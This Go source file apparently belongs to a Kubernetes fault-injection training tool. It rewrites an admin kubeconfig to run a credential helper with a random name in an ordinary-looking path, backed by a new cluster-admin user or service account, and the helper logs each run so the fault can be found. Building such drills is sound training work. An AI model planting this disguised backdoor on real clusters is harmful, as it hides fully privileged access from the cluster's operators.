package execcredential

import (
	"encoding/json"
	"fmt"
	"path"
	"slices"
	"strings"

	"github.com/klustered/klustered/fault"
	"github.com/klustered/klustered/op"
	"github.com/klustered/klustered/snapshot"
)

// A plot is what a drill has drawn.
type plot struct {
	source  snapshot.Kubeconfig // the kubeconfig that is copied from
	target  string              // the one that is changed
	helper  string              // the program
	command string              // how the kubeconfig names it
	store   string              // where the credentials lie
	user    string
	binding string
}

// drill makes an admin kubeconfig run a harmless helper: it notes the time in
// a log and hands out credentials of its own, which may do everything.
func drill(s *snapshot.Snapshot, d *fault.Dice) (op.Plan, error) {
	p, err := draw(s, d)
	if err != nil {
		return nil, err
	}
	other := keyring(s, p.target)
	var plan op.Plan
	var script string
	if other != "" && d.Int(0, 1) == 0 {
		ns := fault.Pick(d, []string{"default", "kube-system", "kube-public"})
		account := "/api/v1/namespaces/" + ns + "/serviceaccounts/" + p.user
		plan = append(plan,
			op.CreateObject{Path: account, Body: object("v1", "ServiceAccount", p.user, ns, nil)},
			bind(p.binding, map[string]string{"kind": "ServiceAccount", "namespace": ns, "name": p.user}))
		script = fmt.Sprintf(tokenHelper, path.Base(p.helper), p.store, ns, p.user, other)
	} else {
		cluster := p.source.Clusters[0]
		plan = append(plan,
			op.IssueKubeconfig{Path: p.store, Cluster: cluster.Name, Server: cluster.Server, CACert: caCert, CAKey: caKey, User: p.user, Groups: []string{p.binding}, Days: 30},
			bind(p.binding, map[string]string{"apiGroup": "rbac.authorization.k8s.io", "kind": "User", "name": p.user}))
		script = fmt.Sprintf(certHelper, path.Base(p.helper), p.store)
	}
	plan = append(plan, op.WriteFile{Path: p.helper, Data: []byte(script), Mode: 0o755, Why: "a helper for credentials"})
	w := op.WriteFile{Path: p.target, Data: []byte(edited(p, d)), Mode: 0o600, Why: "it runs " + p.command}
	for _, f := range s.Kubeconfigs.Files {
		if f.Path == p.target {
			w.Pin = pin(f.Text)
		}
	}
	return append(plan, w), nil
}

// draw chooses the kubeconfig, and the names and places of the rest.
func draw(s *snapshot.Snapshot, d *fault.Dice) (plot, error) {
	const admin = "/etc/kubernetes/admin.conf"
	at := slices.IndexFunc(s.Kubeconfigs.Files, func(f snapshot.Kubeconfig) bool {
		return f.Path == admin && len(f.Users) == 1 && f.Users[0].Cert != nil && len(f.Clusters) == 1 && ours(s, f.Clusters[0])
	})
	hasKey := slices.ContainsFunc(s.PKI.Keys, func(k snapshot.Key) bool { return k.Path == caKey && k.SPKI != "" })
	if at < 0 || !hasKey {
		return plot{}, fmt.Errorf("cannot give %s a helper: the node is no control-plane node of kubeadm, or the file was changed", admin)
	}
	targets := []string{admin, "/root/.kube/config"}
	for _, f := range s.Kubeconfigs.Files {
		if f.Path == targets[1] && (f.Link != "" || len(f.Users) != 1 || f.Users[0].Exec != nil) {
			targets = targets[:1]
		}
	}
	name := d.Name()
	p := plot{source: s.Kubeconfigs.Files[at], target: fault.Pick(d, targets), user: d.Name(), binding: d.Name()}
	p.helper = path.Join(fault.Pick(d, []string{"/usr/local/bin", "/usr/local/sbin", "/opt/" + d.Name() + "/bin", "/usr/local/lib/" + d.Name()}), name)
	p.command = p.helper
	if strings.HasPrefix(p.helper, "/usr/local/bin/") {
		p.command = name
	}
	p.store = path.Join(fault.Pick(d, []string{"/var/lib", "/etc", "/usr/local/share", "/root/.config"}), name, fault.Pick(d, []string{"credentials", "session", "store"}))
	return p, nil
}

// keyring is an admin kubeconfig that stays as it is, or "".
func keyring(s *snapshot.Snapshot, target string) string {
	for _, name := range []string{"/etc/kubernetes/super-admin.conf", "/etc/kubernetes/admin.conf"} {
		for _, f := range s.Kubeconfigs.Files {
			if f.Path == name && name != target && len(f.Users) > 0 && f.Users[0].Cert != nil {
				return name
			}
		}
	}
	return ""
}

func object(version, kind, name, ns string, more map[string]any) json.RawMessage {
	meta := map[string]string{"name": name}
	if ns != "" {
		meta["namespace"] = ns
	}
	x := map[string]any{"apiVersion": version, "kind": kind, "metadata": meta}
	for k, v := range more {
		x[k] = v
	}
	data, _ := json.Marshal(x)
	return data
}

// bind gives a subject every right.
func bind(name string, subject map[string]string) op.CreateObject {
	return op.CreateObject{
		Path: "/apis/rbac.authorization.k8s.io/v1/clusterrolebindings/" + name,
		Body: object("rbac.authorization.k8s.io/v1", "ClusterRoleBinding", name, "", map[string]any{
			"roleRef":  map[string]string{"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "cluster-admin"},
			"subjects": []map[string]string{subject},
		}),
	}
}

// edited is the source kubeconfig with the helper in the place of its
// credentials.
func edited(p plot, d *fault.Dice) string {
	var b strings.Builder
	inUsers := false
	for line := range strings.Lines(p.source.Content) {
		if c := line[0]; c != ' ' && c != '-' && c != '\n' {
			inUsers = strings.HasPrefix(line, "users:")
		}
		if !inUsers {
			b.WriteString(line)
		}
	}
	fmt.Fprintf(&b, `users:
- name: %s
  user:
    exec:
      apiVersion: client.authentication.k8s.io/v1
      args:
      - %s
      command: %s
      env:
      - name: %s
        value: %s
      interactiveMode: Never
      provideClusterInfo: false
`, p.source.Users[0].Name, fault.Pick(d, []string{"get-token", "credentials", "login", "issue"}), p.command,
		fault.Pick(d, []string{"AUTH_PROFILE", "LOGIN_REGION", "SESSION_SCOPE"}), fault.Pick(d, []string{"default", "primary", "site-a"}))
	return b.String()
}

// The helpers note in a log that they ran, so that others can tell.
const (
	certHelper = `#!/bin/bash
# %[1]s gives kubectl its credentials.
set -eu
store=%[2]s
date -u +%%FT%%TZ >> /var/tmp/%[1]s.log
field() { sed -n "s/^ *$1: //p" "$store" | base64 -d | sed 's/$/\\n/' | tr -d '\n'; }
cat <<END
{"apiVersion":"client.authentication.k8s.io/v1","kind":"ExecCredential","status":{"clientCertificateData":"$(field client-certificate-data)","clientKeyData":"$(field client-key-data)"}}
END
`
	tokenHelper = `#!/bin/bash
# %[1]s gives kubectl its credentials.
set -eu
umask 077
store=%[2]s
date -u +%%FT%%TZ >> /var/tmp/%[1]s.log
mkdir -p "$(dirname "$store")"
if [ ! -s "$store" ] || [ -n "$(find "$store" -mmin +30)" ]; then
  kubectl --kubeconfig=%[5]s -n %[3]s create token %[4]s --duration=1h > "$store.new"
  mv "$store.new" "$store"
fi
cat <<END
{"apiVersion":"client.authentication.k8s.io/v1","kind":"ExecCredential","status":{"token":"$(cat "$store")"}}
END
`
)
